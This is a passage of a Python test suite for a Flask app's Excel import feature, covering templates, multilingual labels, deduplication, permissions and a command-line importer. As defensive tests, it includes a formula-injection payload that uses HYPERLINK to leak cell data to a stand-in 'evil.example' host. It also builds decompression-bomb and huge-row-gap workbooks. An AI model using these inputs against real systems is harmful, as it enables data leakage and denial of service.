"""Import from Excel: an office brings its spreadsheets in, whole, once, and never half-way."""

import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from flask_babel import force_locale, gettext
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from sqlalchemy import func, select
from werkzeug.test import EnvironBuilder

from coalition.database import db
from coalition.models import (
    AuditEntry,
    AwarenessActivity,
    Case,
    Contact,
    Event,
    Meeting,
    Partner,
    Publication,
    Training,
    Video,
)

MODELS = (Contact, Partner, Meeting, Training, Video, AwarenessActivity, Event, Publication, Case)


# --- helpers --------------------------------------------------------------------------------
def template(client) -> openpyxl.Workbook:
    """The template workbook the app offers, opened for filling in."""
    response = client.get("/import/template")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    return openpyxl.load_workbook(io.BytesIO(response.data))


def fill(book: openpyxl.Workbook, sheet: str, *rows: dict) -> None:
    """Append rows to a sheet, each given as field key -> value (keys from the hidden row 1)."""
    ws = book[sheet]
    keys = [cell.value for cell in ws[1]]
    for row in rows:
        unknown = set(row) - set(keys)
        assert not unknown, f"no such column on {sheet}: {unknown}"
        ws.append([row.get(key) for key in keys])


def as_bytes(book: openpyxl.Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(client, data: bytes, name: str = "office.xlsx", **form):
    """Post a file to the import page, as a user's browser does, and follow to its job's page."""
    return client.post("/import/", data={"workbook": (io.BytesIO(data), name), **form},
                       content_type="multipart/form-data", follow_redirects=True)


def problems(response) -> list[tuple[str, str, str, str]]:
    """(sheet, row, column, field) of every problem the report lists."""
    return re.findall(r'<tr data-sheet="([^"]*)" data-row="([^"]*)" data-column="([^"]*)" '
                      r'data-field="([^"]*)">', response.get_data(as_text=True))


def counts(response) -> dict[str, tuple[int, int, int]]:
    """Sheet -> (created, updated, skipped) from the report."""
    found = re.findall(r'<tr data-sheet="(\w+)"><td><bdi>\w+</bdi></td><td class="created">(\d+)'
                       r'</td><td class="updated">(\d+)</td><td class="skipped">(\d+)</td>',
                       response.get_data(as_text=True))
    return {sheet: tuple(map(int, numbers)) for sheet, *numbers in found}


def english(client):
    """The same client, with English chosen for its pages and messages."""
    assert client.post("/language/en", data={"next": "/import/"}).status_code == 302
    return client


def written(response) -> bool:
    return 'data-written="yes"' in response.get_data(as_text=True)


def record_counts(app) -> dict[str, int]:
    with app.app_context():
        return {model.__tablename__: db.session.query(model).count() for model in MODELS}


def kpis(client, office: int | None = None) -> dict:
    response = client.get("/api/kpis", query_string={"office": office} if office else None)
    assert response.status_code == 200
    return response.get_json()["kpis"]


def office_workbook(client) -> openpyxl.Workbook:
    """A filled template: every sheet, coded values given as codes, Arabic and English labels."""
    book = template(client)
    fill(book, "contacts",
         {"name": "أحمد الحلبي", "organisation": "رئاسة الهجرة", "contact_kind": "person",
          "category": "government", "title": "مدير", "city": "إسطنبول", "country": "تركيا",
          "phone": 905551112233, "email": "ahmad@example.org"},
         {"name": "İHH", "contact_kind": "Entity", "category": "مجتمع مدني", "city": "Istanbul"})
    fill(book, "partners",
         {"name_ar": "جمعية التضامن", "name_latin": "Dayanisma Dernegi", "origin": "turkish",
          "sector": "ngo", "partnership_status": "active", "partnership_start": "2023-01-15",
          "written_agreement": "نعم", "office": "protection"},
         {"name_ar": "المفوضية", "name_latin": "UNHCR", "origin": "International",
          "sector": "un"})
    fill(book, "meetings",
         {"date": date(2024, 3, 5), "office": "protection", "counterpart_category": "tr_ngo",
          "government": "no", "comprehensive": "no", "partners": "Dayanisma Dernegi",
          "city": "إسطنبول", "topic": "تنسيق الحماية"},
         {"date": "2024-03-06", "office": "مكتب الحماية", "track": "networking",
          "counterpart_category": "المؤسسات التركية الحكومية وغير الحكومية",
          "government": "نعم", "comprehensive": "لا", "counterpart_level": "نائب وزير",
          "city": "أنقرة", "topic": "لقاء رئاسة الهجرة"},
         {"date": "٠٧/٠٣/٢٠٢٤", "office": "Protection Office",
          "counterpart_category": "Arab and international institutions", "government": False,
          "comprehensive": "yes", "partners": "جمعية التضامن; UNHCR",
          "topic": "اجتماع المسار الشهري"})
    fill(book, "trainings",
         {"title": "ورشة الامتثال", "training_kind": "workshop", "start_date": "2024-04-01",
          "end_date": "2024-04-02", "hours": 6, "participants": 25, "trainers": 2,
          "online": "no"})
    fill(book, "videos",
         {"title": "حقوقك في الإقامة", "video_kind": "awareness_video",
          "published_on": "2024-02-01", "platform": "youtube",
          "link": "https://example.org/v/1", "views": 1200})
    fill(book, "activities",
         {"title": "جلسة توعية قانونية", "date": "2024-05-01", "attendees": 40,
          "partners": "UNHCR", "topic": "الحماية المؤقتة"})
    fill(book, "events",
         {"title": "ندوة عن الترحيل", "event_kind": "webinar", "date": "2024-05-10",
          "online": "yes", "attendees": 80, "partners": "جمعية التضامن"})
    fill(book, "publications",
         {"title": "ورقة سياسات", "publication_kind": "policy_paper", "date": "2022-07-17",
          "word_count": 1300})
    same_case = {"opened_on": "2024-01-10", "problem_category": "residence",
                 "consultation_outcome": "directed_to_procedure", "mediation": "immigration",
                 "status": "follow_up"}
    fill(book, "cases", same_case, same_case,
         {"opened_on": "2024-01-11", "problem_category": "deportation",
          "consultation_outcome": "not_legally_possible", "court_referral": "sponsored",
          "referral_result": "positive", "status": "closed", "closed_on": "2024-02-01"})
    return book


# --- the template ---------------------------------------------------------------------------
def test_the_template_has_a_sheet_per_record_type_with_keys_labels_and_lists(login):
    client = login("coordinator_a")
    book = template(client)
    assert book.sheetnames[0] == "instructions"
    for name in ("contacts", "partners", "meetings", "trainings", "videos", "activities",
                 "events", "publications", "cases"):
        assert name in book.sheetnames
    meetings = book["meetings"]
    keys = [cell.value for cell in meetings[1]]
    assert keys[:2] == ["date", "office"]
    assert {"counterpart_category", "government", "comprehensive", "partners", "city",
            "topic"} <= set(keys)
    assert meetings.row_dimensions[1].hidden
    labels = [cell.value for cell in meetings[2]]
    assert labels[0].startswith("التاريخ")  # the coordinator's language: Arabic by default
    assert meetings.sheet_view.rightToLeft
    contact_keys = [cell.value for cell in book["contacts"][1]]
    assert contact_keys[:9] == ["name", "organisation", "contact_kind", "category", "title", "city",
                                "country", "phone", "email"]
    assert "reference" not in [cell.value for cell in book["cases"][1]]
    assert "full_name" not in [cell.value for cell in book["cases"][1]]
    # coded columns have a drop-down of codes and labels
    validated = {str(v.sqref).split(":")[0] for v in meetings.data_validations.dataValidation}
    category = keys.index("counterpart_category") + 1
    assert f"{openpyxl.utils.get_column_letter(category)}3" in validated
    lists = book["lists"]
    offered = {cell.value for row in lists.iter_rows() for cell in row}
    assert {"tr_ngo", "منظمات المجتمع المدني التركية", "protection"} <= offered
    assert "detainees" not in offered  # a coordinator imports into their own office only


def test_the_template_speaks_the_users_language(app, login):
    client = login("admin")
    client.post("/language/en", data={"next": "/import/"})
    book = template(client)
    assert book["meetings"]["A2"].value == "Date *"
    assert not book["meetings"].sheet_view.rightToLeft
    assert "Protection Office" in {c.value for row in book["lists"].iter_rows() for c in row}


def test_the_import_page_is_for_those_who_write(login):
    assert login("coordinator_a").get("/import/").status_code == 200
    assert login("admin").get("/import/").status_code == 200
    assert login("leadership").get("/import/").status_code == 200  # they import targets
    for role in ("donor",):
        client = login(role)
        assert client.get("/import/").status_code == 403
        assert client.get("/import/template").status_code == 403
        assert upload(client, b"x").status_code == 403


def test_anonymous_users_are_sent_to_sign_in(app):
    response = app.test_client().get("/import/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


# --- importing ------------------------------------------------------------------------------
def test_a_filled_template_is_imported_and_moves_the_kpis(app, world, login):
    client = login("coordinator_a")
    before = kpis(client, world["office_a"])  # a coordinator sees their own office's cases
    response = upload(client, as_bytes(office_workbook(client)))
    assert response.status_code == 200
    assert written(response), problems(response)
    assert counts(response) == {
        "contacts": (2, 0, 0), "partners": (2, 0, 0), "meetings": (3, 0, 0),
        "trainings": (1, 0, 0), "videos": (1, 0, 0), "activities": (1, 0, 0),
        "events": (1, 0, 0), "publications": (1, 0, 0), "cases": (3, 0, 0)}
    # each row's date reads as the page's other dates do, in the reader's language
    page = response.get_data(as_text=True)
    assert "05\u200f/03\u200f/2024 — تنسيق الحماية" in page and "2024-03-05" not in page

    with app.app_context():
        ahmad = db.session.query(Contact).filter_by(email="ahmad@example.org").one()
        assert (ahmad.name, ahmad.organisation, ahmad.contact_kind, ahmad.category) == (
            "أحمد الحلبي", "رئاسة الهجرة", "person", "government")
        assert ahmad.phone == "905551112233"  # a number typed in a phone cell stays whole
        assert ahmad.created_by.username == "coord_a" and ahmad.created_at is not None
        ihh = db.session.query(Contact).filter_by(name="İHH").one()
        assert (ihh.contact_kind, ihh.category) == ("entity", "civil_society")

        solidarity = db.session.query(Partner).filter_by(name_latin="Dayanisma Dernegi").one()
        assert (solidarity.origin, solidarity.sector, solidarity.partnership_status) == (
            "turkish", "ngo", "active")
        assert solidarity.partnership_start == date(2023, 1, 15)
        assert solidarity.written_agreement and solidarity.office_id == world["office_a"]
        unhcr = db.session.query(Partner).filter_by(name_latin="UNHCR").one()
        assert (unhcr.origin, unhcr.partnership_status) == ("international", "none")

        meetings = {m.topic: m for m in db.session.query(Meeting)}
        assert set(meetings) == {"تنسيق الحماية", "لقاء رئاسة الهجرة", "اجتماع المسار الشهري"}
        first = meetings["تنسيق الحماية"]
        assert (first.date, first.counterpart_category, first.government,
                first.comprehensive) == (date(2024, 3, 5), "tr_ngo", False, False)
        assert [p.name_latin for p in first.partners] == ["Dayanisma Dernegi"]
        official = meetings["لقاء رئاسة الهجرة"]
        assert (official.counterpart_category, official.government, official.track_id,
                official.counterpart_level) == ("tr_government", True, world["track_1"],
                                                "نائب وزير")
        within = meetings["اجتماع المسار الشهري"]
        assert within.date == date(2024, 3, 7) and within.comprehensive
        assert within.counterpart_category == "intl"
        assert {p.name_latin for p in within.partners} == {"Dayanisma Dernegi", "UNHCR"}
        assert all(m.office_id == world["office_a"] for m in meetings.values())
        assert all(m.created_by.username == "coord_a" for m in meetings.values())

        training = db.session.query(Training).one()
        assert (training.title, training.training_kind, training.hours, training.participants,
                training.trainers, training.end_date) == (
            "ورشة الامتثال", "workshop", 6.0, 25, 2, date(2024, 4, 2))
        video = db.session.query(Video).one()
        assert (video.video_kind, video.platform, video.views) == ("awareness_video", "youtube",
                                                                   1200)
        activity = db.session.query(AwarenessActivity).one()
        assert activity.attendees == 40 and [p.name_latin for p in activity.partners] == ["UNHCR"]
        event = db.session.query(Event).one()
        assert event.event_kind == "webinar" and event.online and len(event.partners) == 1
        paper = db.session.query(Publication).one()
        assert (paper.publication_kind, paper.word_count) == ("policy_paper", 1300)
        cases = db.session.query(Case).order_by(Case.opened_on).all()
        assert len(cases) == 3 and len({c.reference for c in cases}) == 3
        # each new record has its "create" entry in the audit trail, by the importing user
        created = db.session.query(AuditEntry).filter_by(action="create",
                                                         record_type="meetings").all()
        assert sorted(e.record_id for e in created) == sorted(m.id for m in meetings.values())
        assert {e.user.username for e in created} == {"coord_a"}
        topics = {e.changed["topic"][1] for e in created}
        assert topics == set(meetings)
        assert all(c.office_id == world["office_a"] and c.personal is None for c in cases)
        assert cases[2].status == "closed" and cases[2].referral_result == "positive"

    after = kpis(client, world["office_a"])
    moved = {key: after[key] - before[key] for key in after if after[key] != before[key]}
    assert moved == {
        "contacts.total": 2,
        "meetings.total": 3,
        "meetings.by_counterpart.tr_ngo": 1,
        "meetings.by_counterpart.tr_government": 1,
        "meetings.by_counterpart.intl": 1,
        "meetings.government": 1,
        "meetings.comprehensive": 1,
        "partnerships.total": 1,
        "trainings.total": 1,
        "workshops.total": 1,
        "trainings.hours": 6,
        "trainings.participants": 25,
        "trainings.trainers": 2,
        "videos.published": 1,
        "videos.total": 1,
        "awareness_activities.total": 1,
        "awareness_activities.participants": 40,
        "events.total": 1,
        "events.participants": 80,
        "publications.total": 1,
        "cases.total": 3,
        "cases.by_outcome.directed_to_procedure": 2,
        "cases.by_outcome.not_legally_possible": 1,
        "cases.under_follow_up": 2,
        "cases.mediations": 2,
        "cases.mediations.immigration": 2,
        "cases.court_referrals": 1,
    }


def test_importing_the_same_workbook_again_duplicates_nothing(app, world, login):
    client = english(login("coordinator_a"))
    data = as_bytes(office_workbook(client))
    assert written(upload(client, data))
    once, figures = record_counts(app), kpis(client)

    again = upload(client, data)
    assert again.status_code == 200 and not problems(again)
    assert record_counts(app) == once
    assert kpis(client) == figures
    assert counts(again) == {
        "contacts": (0, 0, 2), "partners": (0, 0, 2), "meetings": (0, 0, 3),
        "trainings": (0, 0, 1), "videos": (0, 0, 1), "activities": (0, 0, 1),
        "events": (0, 0, 1), "publications": (0, 0, 1), "cases": (0, 0, 3)}
    assert "Already recorded." in again.get_data(as_text=True)


def test_a_row_repeated_in_the_sheet_is_written_once(app, world, login):
    client = english(login("coordinator_a"))
    book = template(client)
    meeting = {"date": "2024-03-05", "counterpart_category": "tr_ngo", "topic": "تنسيق الحماية"}
    fill(book, "meetings", meeting, {**meeting, "topic": "  تنسيقُ الحمايه "})
    response = upload(client, as_bytes(book))
    assert written(response) and counts(response) == {"meetings": (1, 0, 1)}
    assert "Same as row 3 of this sheet." in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.query(Meeting).one().office_id == world["office_a"]


def test_contacts_spelled_with_arabic_variants_are_matched(app, world, login):
    client = login("coordinator_a")
    book = template(client)
    fill(book, "contacts",
         {"name": "أحمد الحلبي", "organisation": "مؤسسة الإغاثة", "phone": "+90 555 000"},
         {"name": "احمد الحلبي", "organisation": "موسسة الاغاثة"},
         {"name": "أَحْمَد الحَلَبي", "organisation": "مؤسسه الإغاثه", "email": "a@example.org"},
         {"name": "أحـــمد  الحلبى", "organisation": "مؤسّسة الإغاثة", "city": "غازي عنتاب"},
         {"name": "AHMAD", "organisation": "İstanbul Office"},
         {"name": "ahmad", "organisation": "ISTANBUL  office"})
    first = upload(client, as_bytes(book))
    assert written(first) and counts(first) == {"contacts": (2, 0, 4)}
    with app.app_context():
        contacts = db.session.query(Contact).order_by(Contact.id).all()
        assert len(contacts) == 2
        ahmad = contacts[0]
        # the first spelling stays; later rows' non-empty values are merged in
        assert (ahmad.name, ahmad.organisation) == ("أحمد الحلبي", "مؤسسة الإغاثة")
        assert (ahmad.phone, ahmad.email, ahmad.city) == ("+90 555 000", "a@example.org",
                                                          "غازي عنتاب")

    # the directory already has him: a new spelling updates his entry with new values only
    book = template(client)
    fill(book, "contacts", {"name": "احمد الحلبى", "organisation": "موسسه الاغاثه",
                            "title": "منسق", "phone": ""})
    second = upload(client, as_bytes(book))
    assert written(second) and counts(second) == {"contacts": (0, 1, 0)}
    with app.app_context():
        ahmad = db.session.query(Contact).order_by(Contact.id).first()
        assert db.session.query(Contact).count() == 2
        assert (ahmad.title, ahmad.phone) == ("منسق", "+90 555 000")
        assert ahmad.version == 2 and ahmad.updated_by.username == "coord_a"


def test_a_contact_in_the_trash_is_skipped_not_duplicated(app, world, login):
    client = english(login("coordinator_a"))
    with app.app_context():
        db.session.add(Contact(name="سليم", organisation="جمعية", deleted_at=date(2024, 1, 1)))
        db.session.commit()
    book = template(client)
    fill(book, "contacts", {"name": "سليم", "organisation": "جمعيه", "phone": "123"})
    response = upload(client, as_bytes(book))
    assert written(response) and counts(response) == {"contacts": (0, 0, 1)}
    assert "trash" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.query(Contact).one().phone == ""


def test_a_sheet_with_errors_writes_nothing_and_lists_every_error(app, world, login):
    client = english(login("coordinator_a"))
    book = template(client)
    fill(book, "contacts", {"name": "سليم", "email": "not-an-email"},
         {"name": "نور", "organisation": "جمعية"})  # a good row, not written either
    fill(book, "meetings",
         {"date": "2024-03-05", "counterpart_category": "tr_ngo", "topic": "جيد"},
         {"date": "5 March", "counterpart_category": "nobody", "government": "maybe",
          "topic": "x"},
         {"date": "2024-03-07", "office": "detainees", "counterpart_category": "tr_ngo",
          "topic": "مكتب آخر"},
         {"date": "2024-03-08", "comprehensive": "no", "partners": "جهة مجهولة",
          "topic": ""})
    fill(book, "trainings", {"title": "ورشة", "start_date": "2024-04-02",
                             "end_date": "2024-04-01", "hours": -3, "participants": "many"})
    fill(book, "cases", {"opened_on": "2024-01-10", "status": "closed",
                         "court_referral": "sponsored"})
    before = record_counts(app)
    response = upload(client, as_bytes(book))
    assert response.status_code == 422 and not written(response)
    assert record_counts(app) == before
    listed = {(sheet, row, column, key) for sheet, row, column, key in problems(response)}
    assert listed == {
        ("contacts", "3", "I", "email"),
        ("meetings", "4", "A", "date"),
        ("meetings", "4", "E", "counterpart_category"),
        ("meetings", "4", "F", "government"),
        ("meetings", "5", "B", "office"),
        ("meetings", "6", "E", "counterpart_category"),
        ("meetings", "6", "K", "topic"),
        ("trainings", "3", "B", "training_kind"),  # a choice that decides a KPI: no default
        ("trainings", "3", "D", "end_date"),
        ("trainings", "3", "H", "hours"),
        ("trainings", "3", "I", "participants"),
        ("cases", "3", "J", "referral_result"),
        ("cases", "3", "E", "closed_on"),
    }
    page = response.get_data(as_text=True)
    assert "Nothing was written" in page
    assert "Only records of" in page  # the coordinator named another office
    # an unknown counterpart is no problem: it would be added as a "contact only" partner
    assert "No partner named" not in page


def test_errors_are_reported_in_the_users_language(app, world, login):
    client = login("coordinator_a")
    book = template(client)
    fill(book, "meetings", {"date": "2024-03-05", "counterpart_category": "tr_ngo",
                            "government": "maybe", "topic": "x"})
    data = as_bytes(book)
    for lang in ("ar", "en", "tr"):
        client.post(f"/language/{lang}", data={"next": "/import/"})
        page = upload(client, data).get_data(as_text=True)
        with app.test_request_context(), force_locale(lang):
            expected = (gettext("Answer yes or no."), gettext("Official government meeting"),
                        gettext("Nothing was written. Correct these problems and import the "
                                "workbook again."))
        for text in expected:
            assert escape(text) in page, (lang, text)


def test_a_dry_run_reports_and_writes_nothing(app, world, login):
    client = login("coordinator_a")
    before = record_counts(app)
    response = upload(client, as_bytes(office_workbook(client)), dry_run="y")
    assert response.status_code == 200 and not written(response) and not problems(response)
    assert counts(response)["meetings"] == (3, 0, 0)
    assert record_counts(app) == before


def test_an_admin_imports_into_any_office(app, world, login):
    client = login("admin")
    book = template(client)
    fill(book, "meetings",
         {"date": "2024-03-05", "office": "detainees", "counterpart_category": "sy_media",
          "topic": "لقاء"},
         {"date": "2024-03-06", "office": "protection", "counterpart_category": "sy_media",
          "topic": "لقاء"})
    assert written(upload(client, as_bytes(book)))
    with app.app_context():
        offices = sorted(m.office_id for m in db.session.query(Meeting))
        assert offices == sorted([world["office_a"], world["office_b"]])
    # choosing an office fills the rows without one, and refuses rows naming another
    book = template(client)
    fill(book, "meetings", {"date": "2024-04-01", "counterpart_category": "intl", "topic": "أ"},
         {"date": "2024-04-02", "office": "protection", "counterpart_category": "intl",
          "topic": "ب"})
    refused = upload(client, as_bytes(book), office=str(world["office_b"]))
    assert problems(refused) == [("meetings", "4", "B", "office")]
    fill(book, "meetings", {})
    book["meetings"].delete_rows(4)
    assert written(upload(client, as_bytes(book), office=str(world["office_b"])))
    assert not written(upload(client, as_bytes(book), office="999999"))  # no such office
    with app.app_context():
        assert db.session.query(Meeting).filter_by(topic="أ").one().office_id == world[
            "office_b"]


# --- what is refused ------------------------------------------------------------------------
def _with_cached_value(data: bytes, cell: str, value: str) -> bytes:
    """Give a formula cell the saved result Excel would have stored with it."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                content = re.sub(
                    rf'<c r="{cell}"([^>]*)><f>(.*?)</f><v\s*/?>(?:</v>)?'.encode(),
                    lambda m: (b'<c r="' + cell.encode() + b'"' + m.group(1) + b' t="str"><f>'
                               + m.group(2) + b"</f><v>" + value.encode() + b"</v>"),
                    content)
            target.writestr(item, content)
    return out.getvalue()


def test_formulas_are_never_run(app, world, login):
    client = english(login("coordinator_a"))
    book = template(client)
    fill(book, "meetings", {"date": "2024-03-05", "counterpart_category": "tr_ngo",
                            "topic": '=HYPERLINK("http://evil.example/?"&A1,"x")'})
    data = as_bytes(book)
    refused = upload(client, data)
    assert problems(refused) == [("meetings", "3", "K", "topic")]
    assert "formula" in refused.get_data(as_text=True)
    with app.app_context():
        assert db.session.query(Meeting).count() == 0

    # with the result Excel saved, the result is the data; the formula is never read
    response = upload(client, _with_cached_value(data, "K3", "الموضوع المحفوظ"))
    assert written(response), problems(response)
    with app.app_context():
        assert db.session.query(Meeting).one().topic == "الموضوع المحفوظ"


def test_files_that_are_not_xlsx_get_a_clear_message(app, world, login):
    client = english(login("coordinator_a"))
    for data, name in ((b"name,organisation\nx,y\n", "contacts.csv"),
                       (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "old.xls"),
                       (b"", "empty.xlsx")):
        response = upload(client, data, name)
        assert response.status_code == 422, name
        page = response.get_data(as_text=True)
        assert "not an Excel workbook (.xlsx)" in page or "Choose a workbook" in page, name
        assert not written(response)


def test_a_damaged_workbook_gets_a_clear_message(app, world, login):
    client = english(login("coordinator_a"))
    data = as_bytes(office_workbook(client))
    source, broken = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(broken, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                content = content[: len(content) // 2]  # cut off half-way
            target.writestr(item, content)
    response = upload(client, broken.getvalue())
    assert response.status_code == 422 and not written(response)
    assert "could not be read" in response.get_data(as_text=True)
    assert record_counts(app) == dict.fromkeys(record_counts(app), 0)


def test_a_file_over_the_size_limit_is_refused(app, world, login, monkeypatch):
    client = english(login("coordinator_a"))
    data = as_bytes(office_workbook(client))
    monkeypatch.setitem(app.config, "IMPORT_MAX_BYTES", len(data) - 1)
    response = upload(client, data)
    assert response.status_code == 413 and "larger than the limit" in response.get_data(
        as_text=True)
    assert record_counts(app)["meetings"] == 0


def test_unknown_columns_and_sheets_are_named(app, world, login):
    client = english(login("coordinator_a"))
    book = template(client)
    book["contacts"]["K1"] = "nickname"
    fill(book, "contacts", {"name": "سليم"})
    book.create_sheet("Sheet1")["A1"] = "data"
    response = upload(client, as_bytes(book))
    assert not written(response)
    page = response.get_data(as_text=True)
    assert "Unknown column “nickname”" in page and "Unknown sheet “Sheet1”" in page
    assert ("contacts", "1", "K", "") in problems(response)

    other = openpyxl.Workbook()
    other.active.title = "directory"
    other.active.append(["name"])
    other.active.append(["x"])
    page = upload(client, as_bytes(other)).get_data(as_text=True)
    assert "Unknown sheet “directory”" in page

    empty = openpyxl.Workbook()
    page = upload(client, as_bytes(empty)).get_data(as_text=True)
    assert "none of the template&#39;s sheets" in page or "none of the template's sheets" in page


def test_an_empty_template_imports_nothing_and_says_so(app, world, login):
    client = english(login("coordinator_a"))
    response = upload(client, as_bytes(template(client)))
    assert response.status_code == 200 and not problems(response)
    assert "have no rows to import" in response.get_data(as_text=True)
    assert record_counts(app) == dict.fromkeys(record_counts(app), 0)


def test_a_sheet_missing_a_required_column_is_refused(app, world, login):
    client = login("coordinator_a")
    book = openpyxl.Workbook()
    book.active.title = "meetings"
    book.active.append(["date", "counterpart_category"])
    book.active.append(["2024-03-05", "tr_ngo"])
    response = upload(client, as_bytes(book))
    assert not written(response)
    assert ("meetings", "1", "", "topic") in problems(response)


def test_a_header_of_labels_in_english_or_arabic_is_understood(app, world, login):
    client = login("coordinator_a")
    book = openpyxl.Workbook()
    book.active.title = "contacts"
    book.active.append(["Name", "المؤسسة", "Email"])
    book.active.append(["سليم", "جمعية", "s@example.org"])
    response = upload(client, as_bytes(book))
    assert written(response), problems(response)
    with app.app_context():
        contact = db.session.query(Contact).one()
        assert (contact.organisation, contact.email) == ("جمعية", "s@example.org")


# --- the command line -----------------------------------------------------------------------
@pytest.fixture
def workbook_file(app, world, login, tmp_path):
    """A filled template saved to a file, as an office would hand it over."""
    path = tmp_path / "office.xlsx"
    path.write_bytes(as_bytes(office_workbook(login("admin"))))
    return path


def test_the_cli_dry_run_writes_nothing_and_exits_0(app, workbook_file):
    before = record_counts(app)
    result = app.test_cli_runner().invoke(args=["import", str(workbook_file), "--dry-run",
                                                "--office", "protection", "--lang", "en"])
    assert result.exit_code == 0, result.output
    assert "nothing was written" in result.output
    assert re.search(r"meetings\s+Created:\s+3", result.output)
    assert record_counts(app) == before


def test_the_cli_imports_as_a_user_and_twice_adds_nothing(app, world, workbook_file):
    runner = app.test_cli_runner()
    args = ["import", str(workbook_file), "--office", "protection", "--user", "coord_a",
            "--lang", "en"]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    once = record_counts(app)
    assert once["meetings"] == 3 and once["contacts"] == 2
    with app.app_context():
        assert {m.created_by.username for m in db.session.query(Meeting)} == {"coord_a"}
    again = runner.invoke(args=args)
    assert again.exit_code == 0 and re.search(r"meetings\s+Created:\s+0", again.output)
    assert record_counts(app) == once


def test_the_cli_with_errors_exits_non_zero_and_writes_nothing(app, world, login, tmp_path):
    book = office_workbook(login("admin"))
    fill(book, "meetings", {"date": "not a date", "topic": "x", "counterpart_category": "intl"})
    path = tmp_path / "bad.xlsx"
    path.write_bytes(as_bytes(book))
    result = app.test_cli_runner().invoke(args=["import", str(path), "--office", "protection",
                                                "--lang", "en"])
    assert result.exit_code != 0
    assert "meetings!A6 (date): Not a date" in result.output
    assert record_counts(app) == dict.fromkeys(record_counts(app), 0)
    # a coordinator's rights apply on the command line too: office B's coordinator may not
    # import office A's meetings, and rows without an office go to their own office
    result = app.test_cli_runner().invoke(args=["import", str(path), "--user", "coord_b",
                                                "--dry-run", "--lang", "en"])
    assert result.exit_code != 0
    assert "meetings!B3 (office): Only records of" in result.output
    assert "trainings!" not in result.output


def test_the_cli_speaks_the_commands_language(app, world, workbook_file):
    result = app.test_cli_runner().invoke(args=["import", str(workbook_file), "--dry-run",
                                                "--office", "protection"],
                                          env={"COALITION_LANG": "ar", "LANG": ""})
    assert result.exit_code == 0, result.output
    with app.test_request_context(), force_locale("ar"):
        assert gettext("Created") in result.output


def test_the_cli_writes_the_template(app, world, tmp_path):
    path = tmp_path / "template.xlsx"
    result = app.test_cli_runner().invoke(args=["import-template", str(path), "--lang", "en"])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(path)
    assert book["meetings"]["A1"].value == "date" and book["meetings"]["A2"].value == "Date *"
    assert {"protection", "detainees"} <= {c.value for row in book["lists"].iter_rows()
                                           for c in row}


# --- hostile workbooks: refused fast, in bounded memory, saying why ------------------------
ROOT = Path(__file__).resolve().parent.parent
MAIN_NS = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
#: the CPU time refusing a hostile file may take (the work done, whatever else the machine
#: runs), and the wall-clock time on a machine shared by a dozen busy processes
CPU_SECONDS, SECONDS = 3, 60


def upload_closing(client, data: bytes, **form):
    """Post a file to the import page; the test client's spooled body is closed afterwards."""
    builder = EnvironBuilder(path="/import/", method="POST",
                             data={"workbook": (io.BytesIO(data), "office.xlsx"), **form})
    environ = builder.get_environ()
    try:
        return client.open(environ, follow_redirects=True)  # to the import job's page
    finally:
        environ["wsgi.input"].close()
        builder.close()


def rebuilt(data: bytes, replace: dict[str, bytes] | None = None,
            add: dict[str, bytes] | None = None) -> bytes:
    """The workbook `data` with some parts replaced and others added."""
    replace, add = replace or {}, add or {}
    source, target = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            archive.writestr(item.filename, replace.get(item.filename)
                             or source.read(item.filename), zipfile.ZIP_DEFLATED)
        for name, content in add.items():
            archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def sheet(rows: bytes, prolog: bytes = b"") -> bytes:
    """A worksheet part holding `rows` (XML of <row> elements)."""
    return (b'<?xml version="1.0" encoding="UTF-8"?>' + prolog + b"<worksheet " + MAIN_NS
            + b"><sheetData>" + rows + b"</sheetData></worksheet>")


def strings_bomb(base: bytes) -> bytes:
    """A shared-strings part of four million tiny strings: ~70 MB unpacked, ~100 KB zipped."""
    count = 4_000_000
    part = (b'<?xml version="1.0" encoding="UTF-8"?><sst ' + MAIN_NS
            + b' count="%d" uniqueCount="%d">' % (count, count)
            + b"<si><t>a</t></si>" * count + b"</sst>")
    source = zipfile.ZipFile(io.BytesIO(base))
    types = source.read("[Content_Types].xml").replace(b"</Types>", (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
    return rebuilt(base, replace={"[Content_Types].xml": types},
                   add={"xl/sharedStrings.xml": part})


def rows_bomb(base: bytes) -> bytes:
    """A sheet of 300,000 short rows."""
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>'
                    % (n, n) for n in range(1, 300_001))
    return rebuilt(base, replace={"xl/worksheets/sheet2.xml": sheet(rows)})


def row_gap(base: bytes) -> bytes:
    """Two rows a million apart: openpyxl would walk every empty row between them."""
    rows = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="A1048576"><v>1</v>' \
           b"</c></row>"
    return rebuilt(base, replace={"xl/worksheets/sheet2.xml": sheet(rows)})


def row_gap_in_utf16(base: bytes) -> bytes:
    """The gap again, in a part encoded as UTF-16 (which expat, and so openpyxl, reads)."""
    rows = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1e6"><c><v>1</v></c></row>'
    part = ('<?xml version="1.0" encoding="UTF-16"?><worksheet xmlns="http://schemas.'
